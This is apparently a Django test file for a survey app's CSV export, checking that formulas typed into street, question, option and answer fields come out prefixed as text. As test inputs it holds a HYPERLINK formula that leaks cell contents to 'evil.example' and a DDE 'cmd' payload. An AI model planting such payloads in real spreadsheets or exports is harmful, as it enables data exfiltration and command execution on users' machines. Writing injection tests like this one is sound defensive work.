"""The survey export: a formula typed into any text column (street, answers, options, the
question itself) reaches the spreadsheet as text."""

import csv
import io

from django.urls import reverse

from programmes.permissions import Role
from recruitment import services

from .test_survey import _form

FORMULA_SIGNS = ("=", "+", "-", "@")


def _is_safe(cell: str) -> bool:
    if cell.startswith("'"):
        return True
    return not cell.startswith(("\t", "\r", "\n")) and not cell.lstrip().startswith(FORMULA_SIGNS)


def test_survey_export_neutralises_formulas_in_every_column(client, team, world, unscoped):
    pl = world.users[Role.PROJECT_LEADER]
    survey = services.survey_create(actor=pl, programme=team[0], title="Buurtonderzoek")
    single = services.question_add(
        actor=pl, survey=survey, kind="single", text="=1+1", options=["=1+1", "+2"]
    )
    multiple = services.question_add(
        actor=pl, survey=survey, kind="multiple", text="@SUM(A1)", options=["-3+3", "@A1"]
    )
    text = services.question_add(actor=pl, survey=survey, kind="text", text=" -2+2")
    services.survey_set_status(actor=pl, survey=survey, status="open")
    street = '=HYPERLINK("http://evil.example?"&A1;"klik")'
    answer_url = reverse(
        "recruitment:survey_answer",
        kwargs={"org": world.client.slug, "public_id": survey.public_id},
    )
    posted = _form(
        survey,
        street=street,
        **{
            f"q_{single.pk}": "=1+1",
            f"q_{multiple.pk}": ["-3+3", "@A1"],
            f"q_{text.pk}": "\t=cmd|' /C calc'!A0",
        },
    )
    assert client.post(answer_url, posted).status_code == 200
    client.force_login(pl)
    export = client.get(
        reverse(
            "recruitment:survey_csv",
            kwargs={
                "org": world.client.slug,
                "programme_pk": survey.programme_id,
                "survey_pk": survey.pk,
            },
        )
    )
    rows = list(
        csv.reader(
            io.StringIO(b"".join(export.streaming_content).decode("utf-8-sig")), delimiter=";"
        )
    )
    header, row = rows[0], rows[1]
    unsafe = [cell for cell in header + row if not _is_safe(cell)]
    assert unsafe == []
    # The texts are all there, only marked as text.
    assert "'=1+1" in header and "'@SUM(A1)" in header and "'-2+2" in header
    assert row[2] == "'" + street
    assert row[header.index("'=1+1")] == "'=1+1"
    assert row[header.index("'@SUM(A1)")] == "'-3+3, @A1"
    # Forms strip the leading tab; the helper's own tests cover cells that keep it.
    assert row[header.index("'-2+2")] == "'=cmd|' /C calc'!A0"
